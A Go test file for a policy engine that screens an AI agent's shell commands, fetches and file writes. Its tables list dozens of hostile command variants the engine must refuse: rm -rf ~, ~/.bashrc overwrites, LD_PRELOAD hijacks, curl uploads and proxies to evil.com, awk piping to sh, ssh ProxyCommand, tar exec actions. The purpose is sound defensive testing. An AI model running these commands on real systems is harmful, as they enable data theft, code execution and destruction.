package rules

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hookmux/hookmux/event"
	"github.com/hookmux/hookmux/internal/platform/paths"
	"github.com/hookmux/hookmux/internal/policy/facts"
)

// allowedBy says whether rules let a command pass.
func allowedBy(t *testing.T, text, command string) bool {
	t.Helper()
	list, problems := Parse(Source{Name: "x.yaml", Data: []byte("version: 1\ndecide: allow\nrules:\n" + text), Layer: User})
	if len(problems) > 0 {
		t.Fatalf("the rules have problems, expected none: %v", problems)
	}
	set := NewSet(list, Options{Home: exampleHome})
	return set.Decide(Example{Command: command}.Facts(set.Needs())).Verdict == Allow
}

// A rule that allows covers exactly what it was written about.
func TestAllowsNoMoreThanItSays(t *testing.T) {
	const (
		outside = "- {id: a, why: w, match: {tool: shell, contained: false}, examples: {hit: [ls]}}"
		each    = `- {id: a, why: w, match: {program: git}, when: 'command.subcommand == "status"', examples: {hit: [git status]}}`
		anyOf   = `- {id: a, why: w, when: 'any(commands, .program == "ls")', examples: {hit: [ls]}}`
		tools   = "- {id: a, why: w, match: {program: [go, tar, git, sort, rg, find]}, examples: {hit: [git status]}}"
		plain   = "- {id: a, why: w, match: {program: [git, ls]}, examples: {hit: [git status]}}"
	)
	for _, c := range []struct {
		rule, command string
		want          bool
	}{
		{outside, "ls", true},
		{outside, "docker exec x ls", false},
		{each, "git status", true},
		{each, "git status && git push -f", false},
		{anyOf, "ls", true},
		{anyOf, "ls; rm -rf ~", false},
		{anyOf, "ls > ~/.bashrc", false},
		{tools, "go test ./...", true},
		{tools, "go test -exec evil ./...", false},
		{tools, "go test -toolexec=evil", false},
		{tools, "tar xf a --to-command=evil", false},
		{tools, "git diff --output=x", false},
		{tools, "git --exec-path=/tmp/x status", false},
		{tools, "rg --pre evil x", false},
		{tools, "find . -delete", false},
		{tools, "sort -o x y", false},
		{tools, "sort y", true},
		{plain, "git status", true},
		{plain, "/usr/bin/git status", true},
		{plain, "LD_PRELOAD=/tmp/x.so git status", false},
		{plain, "PATH=/tmp/x git status", false},
		{plain, "PATH=/tmp/x; ls", false},
		{plain, "./ls", false},
		{plain, "/tmp/ls", false},
	} {
		if got := allowedBy(t, c.rule, c.command); got != c.want {
			t.Errorf("%s\n\t%q is allowed: %v, want %v", c.rule, c.command, got, c.want)
		}
	}
}

// Whoever may write into the folder of rules must not stop the daemon by it.
func TestDeepFilesAreRefusedAtOnce(t *testing.T) {
	for _, deep := range []string{strings.Repeat("[", 60000), strings.Repeat("{a: ", 30000),
		"\n" + strings.Repeat("- ", 60000) + "a"} {
		start := time.Now()
		_, problems := Parse(Source{Name: "x.yaml", Data: []byte("version: 1\nrules: " + deep), Layer: User})
		if took := time.Since(start); len(problems) != 1 || !problems[0].Whole || took > time.Second {
			t.Errorf("%.10q: took %v, problems %v; want len(problems) == 1, problems[0].Whole and took <= "+
				"time.Second", deep, took, len(problems))
		}
	}
}

// An expression that fills all memory ends the process, and nothing can catch that.
func TestExpressionsThatGrowAreRefused(t *testing.T) {
	if _, problems := Parse(Source{Name: "x.yaml", Layer: User, Data: []byte("version: 1\nrules: [{id: a, why: w, when: '" +
		strings.Repeat("(", 3_000_000) + "', decide: deny, examples: {hit: [ls]}}]\n")}); len(problems) != 1 {
		t.Errorf("three million brackets: %v", problems)
	}
	for when, refused := range map[string]bool{
		`reduce(1..12, #acc + #acc, tool.name) == "x"`:                true,
		`reduce([1], # , 0) == 0`:                                     true,
		`let a = tool.name + tool.name; a + a == "x"`:                 true,
		`replace(tool.name, "", tool.name) == "x"`:                    true,
		`repeat(tool.name, 3) == "x"`:                                 true,
		`join(["a", "b"], "c") == "x"`:                                true,
		`toJSON(toJSON(commands)) == "x"`:                             true,
		`toJSON(commands) contains "ls"`:                              false,
		`len(commands) + 1 > 1`:                                       false,
		`any(commands, .program == "ls") and counts.sameCall + 1 > 0`: false,
	} {
		_, problems := Parse(Source{Name: "x.yaml", Layer: User, Data: []byte("version: 1\nrules:\n  - id: a\n    why: w\n" +
			"    match: {program: ls}\n    decide: deny\n    when: '" + when + "'\n    examples: {hit: [ls]}\n")})
		got := len(problems) == 1 && strings.Contains(problems[0].Text, "is not allowed here")
		if got != refused || !refused && len(problems) > 0 {
			t.Errorf("%s: %v; want it refused: %v", when, problems, refused)
		}
	}
}

// Programs that take several targets do all of them, in any order and behind options
// and variables.
func TestTargetsBesideEachOther(t *testing.T) {
	list := load(t, `version: 1
rules:
  - {id: no-deploy, why: w, match: {program: make, subcommand: deploy}, decide: deny, examples: {hit: [make deploy], miss: [make test]}}
  - {id: tests, why: w, match: {program: make, subcommand: [test, lint]}, decide: allow, examples: {hit: [make test], miss: [make all]}}
  - {id: no-push, why: w, match: {program: git, subcommand: push}, decide: deny, examples: {hit: [git push], miss: [git log push]}}
`)
	for command, want := range map[string]Verdict{
		"make deploy": Deny, "make -C . deploy": Deny, "make -j 4 deploy": Deny, "make test deploy": Deny,
		"make V=1 deploy": Deny, "make -f other.mk test deploy": Deny, "make $TARGET": Ask, "make test $TARGET": Ask,
		"make test": Allow, "make test lint": Allow, "make test SHELL=/tmp/x": NoVerdict, "make test all": NoVerdict,
		"git log push": NoVerdict, "git push": Deny,
	} {
		e := Example{Command: command}
		set := NewSet(list, Options{Home: exampleHome})
		if got := set.Decide(e.Facts(set.Needs())); got.Verdict != want {
			t.Errorf("%s: %q, want %q", command, got.Verdict, want)
		}
	}
}

// An allow rule covers no option that runs, writes or goes elsewhere.
func TestAllowsNoOptionThatReachesFurther(t *testing.T) {
	const (
		host  = "- {id: a, why: w, match: {host: docs.example.com}, examples: {hit: [{url: 'https://docs.example.com/a'}]}}"
		texts = "- {id: a, why: w, match: {program: [sed, awk, gawk, sort, uniq, find, grep, cat, head, jq, less, man, rg, fd, shuf, tree]}, examples: {hit: [sort x]}}"
		npm   = "- {id: a, why: w, match: {program: npm, subcommand: test}, examples: {hit: [npm test]}}"
		git   = "- {id: a, why: w, match: {program: git, subcommand: [status, log, diff]}, examples: {hit: [git status]}}"
		tools = "- {id: a, why: w, match: {program: [make, go, cargo, pytest, node, tar, rsync, kubectl, docker, ssh]}, examples: {hit: [make]}}"
	)
	covered := map[string][]string{
		host: {"curl https://docs.example.com/a", "curl -sSfL https://docs.example.com/a https://docs.example.com/b",
			"wget -q https://docs.example.com/a"},
		texts: {"sed -n 5p f", "sed 's/cat/dog/' f", "sed -e 's/a/b/g' f", "sed '/x/d' f", "sed -n '/start/,/end/p' f", "sed 's/,/;/' f",
			"awk '{print $1}' f", "awk -F: '$3 > 100 {print $1}' f", "awk '/a/ || /b/' f", "sort -u f", "sort -k2 f", "uniq -c",
			"find . -name x", "grep -rn w .", "jq .a f", "head -n 3 f", "rg -n x", "cat f"},
		npm:   {"npm test", "npm test -- --watch=false"},
		git:   {"git status", "git log --oneline -5", "git diff --stat", "git status -s"},
		tools: {"make test", "go test ./...", "cargo test", "pytest -q tests", "tar tf a.tar"},
	}
	refused := map[string][]string{
		host: {"curl https://docs.example.com/a https://evil.com", "curl --connect-to ::evil.com: https://docs.example.com/a",
			"curl --resolve docs.example.com:443:6.6.6.6 https://docs.example.com", "curl --proxy http://evil.com https://docs.example.com/a",
			"curl -x evil.com:80 https://docs.example.com/a", "curl -T f https://docs.example.com/a", "curl --upload-file f https://docs.example.com/",
			"curl -d @f https://docs.example.com/a", "curl -F a=@f https://docs.example.com/a", "curl --data-binary @f https://docs.example.com/a",
			"curl -K x https://docs.example.com/a", "curl --socks5 evil.com https://docs.example.com/a",
			"curl --preproxy evil.com https://docs.example.com", "curl --unix-socket /tmp/s https://docs.example.com/",
			"curl https://docs.example.com/a --next https://evil.com", "curl --doh-url https://evil.com/d https://docs.example.com/a",
			"curl -o ~/.bashrc https://docs.example.com/a", "wget -O x https://docs.example.com/a", "wget -i list https://docs.example.com/a",
			"wget --post-file=f https://docs.example.com/a", "wget -e https_proxy=evil.com https://docs.example.com/a",
			"https_proxy=evil.com curl https://docs.example.com/a", "curl --conn ::evil.com: https://docs.example.com/a"},
		texts: {"sed 'w /tmp/x' f", "sed -n '1w x' f", "sed 's/a/b/w x' f", "sed 's/a/id/e' f", "sed '1e id' f", "sed e f", "sed -i s/a/b/ f",
			"sed -f x f", "sed --in-place s/a/b/ f", "sed -n '/x/W y' f", "sed 's|a|b|gw out' f", "sed -e p -e 'w x' f", "sed '$!{w x\n}' f",
			`awk '{print > "x"}' f`, `awk '{print >> "x"}' f`, `awk 'BEGIN{system("id")}'`, `awk '{print | "sh"}' f`, `awk 'BEGIN{"id" | getline x}'`,
			"awk -f /tmp/x.awk f", "gawk -i inplace 1 f", "gawk '@load \"x\"'", "awk '{printf \"%s\", $1 > \"x\"}' f",
			"sort -S1 --compress-prog /tmp/x y", "sort --compress-program=x y", "sort -o x y", "sort --output=x y", "sort -uo x y",
			"uniq a b", "find . -exec id ;", "find . -delete", "find . -fprint x", "find . -ok id ;", "rg --pre x y", "fd -x id", "fd --exec id",
			"less -o x f", "man -P id ls", "man --pager=id ls", "shuf -o x f", "tree -o x", "jq -f x f", "cat f > x"},
		npm: {"npm test --script-shell=/tmp/x", "npm --prefix /tmp/evil test", "npm test --prefix /tmp/evil", "npm -C /tmp/evil test",
			"npm test --node-options=--require=/tmp/x", "npm test --userconfig /tmp/x", "NODE_OPTIONS=-r/tmp/x npm test"},
		git: {"git -C /tmp/evil status", "git -c core.fsmonitor=/tmp/x status", "git --git-dir=/tmp/x status", "git --work-tree=/ status",
			"git diff --ext-diff", "git log --textconv", "git diff --output=x", "git diff -O x", "git --exec-path=/tmp status",
			"git diff --no-index /etc/passwd x", "git --config-env=core.pager=X log", "GIT_DIR=/tmp/x git status", "git -p -c a.b=c log"},
		tools: {"make -C /tmp/evil", "make -f /tmp/x", "make --eval=x", "make --directory=/tmp/x", "go test -exec x ./...", "go -C /tmp/x test",
			"go test -overlay=x ./...", "cargo --config x test", "cargo test --manifest-path /tmp/x", "pytest -c /tmp/x", "pytest -p evil",
			"node -r /tmp/x a.js", "node --import x a.js", "tar xf a -I x", "tar xf a --checkpoint-action=exec=id", "tar xf a -C /",
			"rsync -e x a b", "kubectl --kubeconfig /tmp/x get pods", "docker -H tcp://evil ps", "ssh -o ProxyCommand=id h", "ssh -F x h"},
	}
	rows := 0
	for want, table := range map[bool]map[string][]string{true: covered, false: refused} {
		for rule, commands := range table {
			for _, command := range commands {
				rows++
				if got := allowedBy(t, rule, command); got != want {
					t.Errorf("%s\n\t%q is allowed: %v, want %v", rule, command, got, want)
				}
			}
		}
	}
	if rows < 100 {
		t.Errorf("%d commands, want at least 100", rows)
	}
}

// What a rule allows by a path is the file that the path leads to.
func TestAllowsFollowLinks(t *testing.T) {
	home := t.TempDir()
	project := filepath.Join(home, "app")
	for _, dir := range []string{"docs", "docs/sub", "src"} {
		if err := os.MkdirAll(filepath.Join(project, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	for _, file := range []string{"victim.txt", "app/docs/a.md", "app/docs/hard.md"} {
		if err := os.WriteFile(filepath.Join(home, file), nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for name, to := range map[string]string{"app/docs/l": home + "/victim.txt", "app/docs/out": home,
		"app/docs/in": project + "/docs/sub", "linked": project} {
		if err := os.Symlink(to, filepath.Join(home, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Link(filepath.Join(project, "docs/hard.md"), filepath.Join(home, "second")); err != nil {
		t.Fatal(err)
	}
	list, problems := Parse(Source{Name: "x.yaml", Layer: User, Data: []byte("version: 1\nrules: [{id: a, why: w, decide: allow, " +
		"match: {path: ./docs/, access: write}, examples: {hit: [{write: docs/a.md}]}}]\n")})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	set := NewSet(list, Options{Home: home})
	for _, root := range []string{project, filepath.Join(home, "linked")} {
		for file, want := range map[string]bool{"docs/a.md": true, "docs/new.md": true, "docs/in/x.md": true, "docs/l": false,
			"docs/out/x": false, "docs/out/.bashrc": false, "docs/hard.md": false, "src/a": false, "docs/../src/a": false} {
			if file == "docs/in/x.md" && root != project {
				continue // a link inside of a project that is reached by a link: asked about
			}
			ev := &event.Event{Kind: event.ToolBefore, Agent: "claude", Cwd: root,
				Tool: &event.Tool{Name: "Write", Kind: event.FileWrite, Writes: []string{file}}}
			f := facts.Collect(ev, root, set.Needs(), facts.Options{Home: home, Resolve: paths.Real, Several: paths.HasSeveralNames})
			if got := set.Decide(f).Verdict == Allow; got != want {
				t.Errorf("%s in %s is allowed: %v, want %v", file, root, got, want)
			}
		}
	}
}
